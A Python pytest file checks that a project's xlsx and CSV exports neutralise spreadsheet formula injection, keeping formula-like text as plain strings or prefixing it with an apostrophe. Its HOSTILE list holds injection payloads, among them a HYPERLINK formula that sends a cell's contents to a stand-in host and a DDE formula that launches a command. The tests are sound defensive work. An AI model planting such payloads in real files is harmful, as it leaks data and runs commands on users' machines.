"""User text in any export stays text: no formula reaches a spreadsheet program."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import csv_text, workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B3,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _round_trip_xlsx(values):
    book = workbook([("s", ["text"], [[v] for v in values], None)])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_stores_formula_like_text_as_a_string_cell_in_xlsx(text):
    (cell,) = _round_trip_xlsx([text])
    assert cell.data_type == "s"
    # XML turns a stored CR into LF; the text is kept, and kept as text.
    assert cell.value == text.replace("\r", "\n")


def test_it_keeps_numbers_and_plain_text_as_they_are_in_xlsx():
    number, plain = _round_trip_xlsx([42, "朱泾法庭"])
    assert (number.data_type, number.value) == ("n", 42)
    assert (plain.data_type, plain.value) == ("s", "朱泾法庭")


@pytest.mark.parametrize("text", HOSTILE)
def test_it_marks_formula_like_text_with_an_apostrophe_in_csv(text):
    rows = list(csv.reader(io.StringIO(csv_text(["text"], [[text]]).lstrip("\ufeff"))))
    assert rows[1] == ["'" + text]


def test_it_writes_csv_with_a_bom_and_plain_text_untouched():
    text = csv_text(["名称"], [["朱泾法庭"], [None]])
    assert text.startswith("\ufeff名称\r\n朱泾法庭\r\n")
